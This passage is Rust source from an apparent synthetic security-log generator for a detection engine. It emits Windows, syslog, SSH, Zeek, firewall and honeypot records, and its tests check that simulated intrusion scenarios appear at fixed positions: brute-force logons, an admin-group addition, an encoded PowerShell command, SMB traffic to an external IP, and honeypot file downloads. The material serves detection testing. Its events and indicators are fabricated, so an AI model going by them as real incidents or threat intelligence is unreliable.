        self.win_header(ts, k, "Microsoft-Windows-Security-Auditing", "Security", 4732, dc);
        let b = &mut self.buf;
        b.s(r#""MemberName":"CN="#).s(user);
        b.s(r#",OU=Service Accounts,DC=corp,DC=local","MemberSid":"S-1-5-21-3623811015-3361044348-30300820-1107","TargetUserName":"Administrators","TargetDomainName":"Builtin","TargetSid":"S-1-5-32-544","SubjectUserName":""#);
        b.s(user).s(r#"","SubjectDomainName":"CORP"}}}"#);
    }

    fn syslog_time(&mut self, ts: i64) {
        const MONTHS: [&str; 12] = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"];
        let t = chrono::DateTime::from_timestamp_millis(ts).unwrap_or_default();
        let b = &mut self.buf;
        b.s(MONTHS[t.month0() as usize]).s(if t.day() < 10 { "  " } else { " " }).n(t.day());
        b.s(" ").pad(t.hour() as i64, 2).s(":").pad(t.minute() as i64, 2).s(":").pad(t.second() as i64, 2);
    }

    fn syslog_line(&mut self, ts: i64, host: &str, app: &str, pid: Option<u64>, msg: &str) {
        self.buf.s("<86>");
        self.syslog_time(ts);
        self.buf.s(" ").s(host).s(" ").s(app);
        if let Some(p) = pid {
            self.buf.s("[").n(p).s("]");
        }
        self.buf.s(": ").s(msg);
    }

    fn sshd(&mut self, ts: i64, host: &str, ok: bool, user: &str, ip: &str, rng: &mut Rng) {
        self.buf.s("<38>");
        self.syslog_time(ts);
        let pid = 1000 + rng.below(60000);
        let port = 30000 + rng.below(35000);
        let outcome = if ok { "]: Accepted password for " } else { "]: Failed password for " };
        self.buf.s(" ").s(host).s(" sshd[").n(pid).s(outcome).s(user);
        self.buf.s(" from ").s(ip).s(" port ").n(port).s(" ssh2");
    }

    /// The fields every Zeek record starts with: time, connection uid, originator.
    fn zeek_prefix(&mut self, ts: i64, k: u64, rng: &mut Rng) {
        let uid = mix(k ^ self.config.seed);
        let b = &mut self.buf;
        b.s(r#"{"ts":"#).n(ts / 1000).s(".").pad(ts % 1000, 3).s(r#","uid":"C"#).hex_lower(uid);
        b.s(r#"","id.orig_h":"10.10."#).n(rng.below(4)).s(".").n(10 + rng.below(200));
        b.s(r#"","id.orig_p":"#).n(49152 + rng.below(16000)).s(",");
    }

    fn zeek_conn(&mut self, ts: i64, k: u64, dst: &str, port: u16, resp_bytes: u64, rng: &mut Rng) {
        self.zeek_prefix(ts, k, rng);
        let b = &mut self.buf;
        b.s(r#""id.resp_h":""#).s(dst).s(r#"","id.resp_p":"#).n(port);
        b.s(r#","proto":"tcp","service":"ssl","duration":"#)
            .n(rng.below(30))
            .s(".")
            .pad(rng.below(1_000_000) as i64, 6);
        b.s(r#","orig_bytes":"#).n(300 + rng.below(5000)).s(r#","resp_bytes":"#).n(resp_bytes);
        b.s(r#","conn_state":"SF","missed_bytes":0,"history":"ShADadFf","orig_pkts":"#).n(2 + rng.below(40));
        b.s(r#","resp_pkts":"#).n(2 + rng.below(80)).s("}");
    }

    fn zeek_dns(&mut self, ts: i64, k: u64, query: &str, rng: &mut Rng) {
        self.zeek_prefix(ts, k, rng);
        let b = &mut self.buf;
        b.s(r#""id.resp_h":"10.10.0.2","id.resp_p":53,"proto":"udp","trans_id":"#).n(rng.below(65536));
        b.s(r#","query":""#).s(query);
        b.s(r#"","qclass":1,"qclass_name":"C_INTERNET","qtype":1,"qtype_name":"A","rcode":0,"rcode_name":"NOERROR","AA":false,"TC":false,"RD":true,"RA":true,"answers":["203.0.113."#);
        b.n(1 + rng.below(250)).s(r#""],"TTLs":[300.0],"rejected":false}"#);
    }

    fn fortigate(&mut self, ts: i64, dst: &str, port: u16, action: &str, rng: &mut Rng) {
        let t = chrono::DateTime::from_timestamp_millis(ts).unwrap_or_default();
        let service = match port {
            443 => "HTTPS",
            80 => "HTTP",
            53 => "DNS",
            22 => "SSH",
            445 => "SMB",
            _ => "tcp/8443",
        };
        let b = &mut self.buf;
        b.s("<189>date=").pad(t.year() as i64, 4).s("-").pad(t.month() as i64, 2).s("-").pad(t.day() as i64, 2);
        b.s(" time=").pad(t.hour() as i64, 2).s(":").pad(t.minute() as i64, 2).s(":").pad(t.second() as i64, 2);
        b.s(r#" devname="FGT-EDGE" devid="FG100FTK19000001" eventtime="#).n(ts / 1000).pad(ts % 1000, 3);
        b.s(r#"000000 tz="+0000" logid="0000000013" type="traffic" subtype="forward" level="notice" vd="root" srcip=10.10."#);
        b.n(rng.below(4)).s(".").n(10 + rng.below(200)).s(" srcport=").n(49152 + rng.below(16000));
        b.s(r#" srcintf="lan" dstip="#).s(dst).s(" dstport=").n(port);
        b.s(r#" dstintf="wan1" proto=6 service=""#).s(service).s(r#"" action=""#).s(action);
        b.s(r#"" policyid="#).n(1 + rng.below(20)).s(r#" policyname="lan-to-wan" duration="#).n(rng.below(600));
        b.s(" sentbyte=").n(rng.below(100_000)).s(" rcvdbyte=").n(rng.below(1_000_000));
        b.s(" sentpkt=").n(1 + rng.below(100)).s(" rcvdpkt=").n(1 + rng.below(1000));
    }
}

/// Rewrites an EVTX-JSON record in `buf` into `shape` (a malformed record stays as it is).
fn reshape(buf: &mut Vec<u8>, shape: WindowsShape) {
    use serde_json::{json, Map, Value};
    let Ok(record) = serde_json::from_slice::<Value>(buf) else { return };
    let system = &record["Event"]["System"];
    let text = |v: &Value| v.as_str().map(str::to_string).unwrap_or_else(|| v.to_string());
    let time = text(&system["TimeCreated"]["#attributes"]["SystemTime"]);
    let event_id = system["EventID"].as_i64().unwrap_or_default();
    let (channel, computer) = (text(&system["Channel"]), text(&system["Computer"]));
    let provider = text(&system["Provider"]["#attributes"]["Name"]);
    let record_id = system["EventRecordID"].clone();
    let data = record["Event"]["EventData"].as_object().cloned().unwrap_or_default();
    let out = match shape {
        WindowsShape::EvtxJson => return,
        WindowsShape::Winlogbeat => json!({
            "@timestamp": time,
            "event": {"code": event_id.to_string(), "provider": provider, "kind": "event"},
            "host": {"name": computer},
            "winlog": {"event_id": event_id.to_string(), "channel": channel, "provider_name": provider,
                       "computer_name": computer, "record_id": record_id, "event_data": data},
        }),
        WindowsShape::Nxlog => {
            // As NXLog writes it with `DateFormat YYYY-MM-DD hh:mm:ss.s` (milliseconds kept, so
            // event time is the same in every shape).
            let local = time.replace('T', " ").trim_end_matches('Z').to_string();
            let mut r = Map::new();
            r.insert("EventTime".into(), local.into());
            r.insert("Hostname".into(), computer.into());
            r.insert("EventID".into(), event_id.into());
            r.insert("SourceName".into(), provider.into());
            r.insert("Channel".into(), channel.into());
            r.insert("RecordNumber".into(), record_id);
            r.insert("Severity".into(), "INFO".into());
            r.insert("SourceModuleType".into(), "im_msvistalog".into());
            r.extend(data);
            Value::Object(r)
        }
        WindowsShape::Flat => {
            let mut r = Map::new();
            r.insert("EventID".into(), event_id.into());
            r.insert("Channel".into(), channel.into());
            r.insert("Provider_Name".into(), provider.into());
            r.insert("Computer".into(), computer.into());
            r.insert("EventRecordID".into(), record_id);
            r.insert("TimeCreated".into(), time.into());
            r.extend(data);
            Value::Object(r)
        }
    };
    buf.clear();
    let _ = serde_json::to_writer(&mut *buf, &out);
}

/// Appends record text without the formatting machinery: `write!` into the buffer was a third
/// of the generator's instructions.
trait RecordText {
    fn s(&mut self, text: &str) -> &mut Self;
    fn n(&mut self, n: impl itoa::Integer) -> &mut Self;
    /// `n` zero-padded to `width` characters, as `{:0width$}` writes it.
    fn pad(&mut self, n: i64, width: usize) -> &mut Self;
    /// 16 upper-case hex digits (`{:016X}`).
    fn hex(&mut self, n: u64) -> &mut Self;
    /// 16 lower-case hex digits (`{:016x}`).
    fn hex_lower(&mut self, n: u64) -> &mut Self;
    /// A JSON string literal: quotes, and escapes where needed.
    fn json(&mut self, text: &str) -> &mut Self;
}

impl RecordText for Vec<u8> {
    fn s(&mut self, text: &str) -> &mut Self {
        self.extend_from_slice(text.as_bytes());
        self
    }

    fn n(&mut self, n: impl itoa::Integer) -> &mut Self {
        self.extend_from_slice(itoa::Buffer::new().format(n).as_bytes());
        self
    }

    fn pad(&mut self, n: i64, width: usize) -> &mut Self {
        let mut digits = itoa::Buffer::new();
        let digits = digits.format(n.unsigned_abs());
        let sign = usize::from(n < 0);
        if n < 0 {
            self.push(b'-');
        }
        self.resize(self.len() + width.saturating_sub(sign + digits.len()), b'0');
        self.s(digits)
    }

    fn hex(&mut self, n: u64) -> &mut Self {
        self.extend((0..16).rev().map(|i| b"0123456789ABCDEF"[(n >> (4 * i)) as usize & 15]));
        self
    }

    fn hex_lower(&mut self, n: u64) -> &mut Self {
        self.extend((0..16).rev().map(|i| b"0123456789abcdef"[(n >> (4 * i)) as usize & 15]));
        self
    }

    fn json(&mut self, text: &str) -> &mut Self {
        self.push(b'"');
        // Runs without escapes in one copy each.
        let mut rest = text.as_bytes();
        while let Some(at) = rest.iter().position(|&c| c == b'"' || c == b'\\' || c < 0x20) {
            self.extend_from_slice(&rest[..at]);
            match rest[at] {
                b'"' => self.extend_from_slice(b"\\\""),
                b'\\' => self.extend_from_slice(b"\\\\"),
                c => {
                    self.extend_from_slice(b"\\u00");
                    self.extend_from_slice(&[
                        b"0123456789abcdef"[usize::from(c >> 4)],
                        b"0123456789abcdef"[usize::from(c & 15)],
                    ]);
                }
            }
            rest = &rest[at + 1..];
        }
        self.extend_from_slice(rest);
        self.push(b'"');
        self
    }
}

/// An IPv4 address's text on the stack (one per logon record; it was a `String`).
struct Ipv4Text {
    bytes: [u8; 15],
    len: usize,
}

impl Ipv4Text {
    fn new(octets: [u8; 4]) -> Ipv4Text {
        let mut text = Ipv4Text { bytes: [0; 15], len: 0 };
        for (i, octet) in octets.into_iter().enumerate() {
            let mut digits = itoa::Buffer::new();
            let digits = digits.format(octet).as_bytes();
            let dot = usize::from(i > 0);
            text.bytes[text.len] = b'.';
            text.bytes[text.len + dot..text.len + dot + digits.len()].copy_from_slice(digits);
            text.len += dot + digits.len();
        }
        text
    }

    fn as_str(&self) -> &str {
        std::str::from_utf8(&self.bytes[..self.len]).unwrap_or_default()
    }
}

impl Generator {
    fn done_before(&self, k: u64) -> bool {
        self.history.iter().any(|l| l.done(k))
    }
}

impl Source for Generator {
    fn checkpoint(&self) -> anyhow::Result<Vec<u8>> {
        let worker = self.next_k % self.step;
        let p = Position { worker, workers: self.step, next_k: self.next_k, history: self.history.clone() };
        ward_engine::keyed::encode(&p)
    }

    /// Any worker count: the indices every earlier instance produced are skipped.
    fn restore(&mut self, parts: &[&[u8]]) -> anyhow::Result<()> {
        let mut positions: Vec<Position> =
            parts.iter().filter(|p| !p.is_empty()).map(|p| ward_engine::keyed::decode(p)).collect::<Result<_, _>>()?;
        if positions.is_empty() {
            return Ok(());
        }
        positions.sort_by_key(|p| p.worker);
        let workers = positions[0].workers;
        if positions.len() as u64 != workers || positions.iter().enumerate().any(|(i, p)| p.worker != i as u64) {
            anyhow::bail!("generator checkpoint: expected the positions of {workers} instances");
        }
        let mut history = positions[0].history.clone();
        history.push(Level { next: positions.iter().map(|p| p.next_k).collect() });
        self.history = history;
        Ok(())
    }

    fn partitions(&self) -> Vec<Arc<str>> {
        if self.config.count > 0 && self.next_k >= self.config.count {
            return Vec::new();
        }
        vec![self.partition.clone()]
    }

    fn poll(&mut self, max_rows: usize) -> anyhow::Result<SourcePoll> {
        let count = self.config.count;
        if count > 0 && self.next_k >= count {
            return Ok(SourcePoll::Done);
        }
        let started = *self.started.get_or_insert_with(Instant::now);
        let mut allowed = max_rows as u64;
        if self.config.rate > 0 {
            // This worker's share of the rate; produce only what the clock allows.
            let share = (self.config.rate as f64 / self.step as f64).max(1.0);
            let due = (started.elapsed().as_secs_f64() * share) as u64 + 1;
            if due <= self.produced {
                let wait =
                    Duration::from_secs_f64((self.produced + 1) as f64 / share).saturating_sub(started.elapsed());
                return Ok(SourcePoll::Pending(wait.max(Duration::from_millis(1))));
            }
            allowed = allowed.min(due - self.produced);
        }
        let mut batch = EventBatch::with_capacity(allowed as usize, allowed as usize * 600);
        let origin = batch.origin_index(&self.component, &self.partition);
        let mut n = 0;
        while n < allowed && (count == 0 || self.next_k < count) {
            let k = self.next_k;
            if self.done_before(k) {
                self.next_k += self.step;
                continue;
            }
            self.record(k);
            // Generated records are a few hundred bytes: they always fit.
            let _fits = batch.push_raw(origin, k, &self.buf);
            debug_assert!(_fits.is_ok());
            self.next_k += self.step;
            n += 1;
        }
        self.produced += n;
        Ok(SourcePoll::Batch(batch))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn gen(workers: u64, worker: u64, count: u64, malformed_every: u64) -> Generator {
        let cfg = GeneratorConfig {
            count,
            rate: 0,
            seed: 7,
            start_time: default_start(),
            interval_ms: 10,
            scenarios: true,
            malformed_every,
            windows_shape: WindowsShape::EvtxJson,
            cloud: false,
            hosts: false,
        };
        Generator::new("gen".into(), cfg, 1_767_600_000_000, worker, workers)
    }

    fn drain(g: &mut Generator) -> Vec<(u64, Vec<u8>)> {
        let mut out = Vec::new();
        while let SourcePoll::Batch(b) = g.poll(333).unwrap() {
            for i in 0..b.len() {
                out.push((b.rows()[i].offset, b.raw_payload(i).to_vec()));
            }
        }
        out
    }

    /// The records are the same from release to release: recorded benchmarks, demo data and
    /// retro-hunt checkpoints name records by seed and position.
    #[test]
    fn record_text_writes_what_the_formatting_machinery_wrote() {
        for n in [0i64, 7, 42, 999, 1_000, 123_456, -5, -1_234, i64::MIN, i64::MAX] {
            for width in [2, 3, 4, 6] {
                assert_eq!(Vec::new().pad(n, width).as_slice(), format!("{n:0width$}").as_bytes());
            }
            assert_eq!(Vec::new().n(n).as_slice(), n.to_string().as_bytes());
        }
        for n in [0u64, 1, 0xdead_beef, u64::MAX] {
            assert_eq!(Vec::new().hex(n).as_slice(), format!("{n:016X}").as_bytes());
            assert_eq!(Vec::new().hex_lower(n).as_slice(), format!("{n:016x}").as_bytes());
        }
        for text in ["", "plain", r#"C:\Windows\a "b".exe"#, "é"] {
            assert_eq!(Vec::new().json(text).as_slice(), serde_json::to_string(text).unwrap().as_bytes());
        }
        // Control characters as `\u00XX`, as the `Display` writer before it did (serde_json writes `\t`).
        assert_eq!(Vec::new().json("a\tb\n\u{1f}").as_slice(), br#""a\u0009b\u000a\u001f""#);
        for octets in [[10, 10, 0, 10], [255, 255, 255, 255], [0, 0, 0, 0], [1, 22, 3, 44]] {
            assert_eq!(Ipv4Text::new(octets).as_str(), std::net::Ipv4Addr::from(octets).to_string());
        }
    }

    #[test]
    fn records_are_stable_across_releases() {
        let mut digest = xxhash_rust::xxh3::Xxh3::new();
        for shape in [WindowsShape::EvtxJson, WindowsShape::Winlogbeat, WindowsShape::Nxlog, WindowsShape::Flat] {
            let mut g = gen(1, 0, 20_000, 997);
            g.config.windows_shape = shape;
            g.config.cloud = true;
            g.config.hosts = true;
            for (offset, record) in drain(&mut g) {
                digest.update(&offset.to_le_bytes());
                digest.update(&record);
            }
        }
        assert_eq!(format!("{:016x}", digest.digest()), "e68bfb401ddf884b");
    }

    #[test]
    fn same_records_whatever_the_worker_count() {
        let one = drain(&mut gen(1, 0, 5000, 0));
        let mut two = drain(&mut gen(2, 0, 5000, 0));
        two.extend(drain(&mut gen(2, 1, 5000, 0)));
        two.sort();
        assert_eq!(one.len(), 5000);
        assert_eq!(one, two);
    }

    #[test]
    fn records_are_realistic_sizes_and_valid_json_where_json() {
        let recs = drain(&mut gen(1, 0, 4000, 0));
        let total: usize = recs.iter().map(|r| r.1.len()).sum();
        let avg = total / recs.len();
        assert!((250..=700).contains(&avg), "average record size {avg}");
        for (k, r) in &recs {
            if r.starts_with(b"{") {
                serde_json::from_slice::<serde_json::Value>(r)
                    .unwrap_or_else(|e| panic!("record {k}: {e}: {}", String::from_utf8_lossy(r)));
            } else {
                assert!(r.starts_with(b"<"), "record {k}");
            }
        }
    }

    #[test]
    fn scenarios_are_at_their_positions() {
        let recs = drain(&mut gen(1, 0, 4000, 0));
        let text = |k: usize| String::from_utf8_lossy(&recs[k].1).into_owned();
        assert!(text(100).contains("\"EventID\":4625") && text(100).contains("svc-backup"));
        assert!(text(120).contains("\"EventID\":4732"));
        assert!(text(1200).contains("-EncodedCommand"));
        assert!(text(2300).contains("dstip=185.220.101.10") && text(2300).contains("dstport=445"));
        assert!(text(3415).contains("sudo: deploy"));
    }

    #[test]
    fn host_state_and_honeypot_records_when_asked() {
        let mut g = gen(1, 0, 2000, 0);
        g.config.hosts = true;
        let recs = drain(&mut g);
        let text = |k: usize| String::from_utf8_lossy(&recs[k].1).into_owned();
        assert!(
            text(600).contains(r#""name":"pack_ward-lab_listening_ports""#)
                && text(600).contains(r#""action":"added""#)
        );
        assert!(text(601).contains(r#""username":"sysupdate""#));
        assert!(text(614).contains(r#""eventid":"cowrie.login.success""#));
        assert!(text(617).contains("cowrie.session.file_download"));
        assert!(text(650).contains(r#""action":"removed""#) && text(650).contains(r#""port":"8080""#));
        assert!(text(1600).contains(r#""hostIdentifier":"web-02""#), "the next block's host");
        let background =
            recs.iter().filter(|(_, r)| r.starts_with(br#"{"name":"pack_"#) || r.starts_with(br#"{"eventid""#));
        assert!(background.count() > 100, "about one background record in ten");
        // Off by default: the stream is what it was.
        let plain = drain(&mut gen(1, 0, 2000, 0));
        assert!(plain.iter().all(|(_, r)| !r.starts_with(br#"{"eventid""#)));
    }

    #[test]
    fn malformed_records_when_asked() {
        let recs = drain(&mut gen(1, 0, 100, 10));
        let broken = recs.iter().filter(|(k, _)| k % 10 == 5).count();
        assert_eq!(broken, 10);
        assert!(std::str::from_utf8(&recs[25].1).is_err(), "the third kind is invalid UTF-8");
    }

    #[test]
    fn rate_limits() {
        let mut g = gen(1, 0, 0, 0);
        g.config.rate = 1000;
        let started = Instant::now();
        let mut n = 0;
        while started.elapsed() < Duration::from_millis(300) {
            match g.poll(10_000).unwrap() {
                SourcePoll::Batch(b) => n += b.len(),
                SourcePoll::Pending(d) => std::thread::sleep(d),
                _ => unreachable!(),
            }
        }
        assert!((200..=450).contains(&n), "{n} records in 300 ms at 1000/s");
    }

    #[test]
    fn resumes_from_checkpoints_on_other_worker_counts() {
        let offsets = |g: &mut Generator, limit: usize| {
            let mut v = Vec::new();
            while v.len() < limit {
                match g.poll(7).unwrap() {
                    SourcePoll::Batch(b) => v.extend((0..b.len()).map(|r| b.provenance(r).offset)),
                    _ => break,
                }
            }
            v
        };
        // 2 workers, then 3, then 1: every index exactly once.
        let mut seen = Vec::new();
        let mut run = |workers: u64, parts: &[Vec<u8>], limit: usize| -> Vec<Vec<u8>> {
            (0..workers)
                .map(|w| {
                    let mut g = gen(workers, w, 500, 0);
                    let refs: Vec<&[u8]> = parts.iter().map(Vec::as_slice).collect();
                    g.restore(&refs).unwrap();
                    seen.extend(offsets(&mut g, limit + w as usize * 13));
                    g.checkpoint().unwrap()
                })
                .collect()
        };
        let parts = run(2, &[], 60);
        let parts = run(3, &parts, 50);
        run(1, &parts, usize::MAX);
        seen.sort();
        assert_eq!(seen, (0..500).collect::<Vec<u64>>());
    }
}
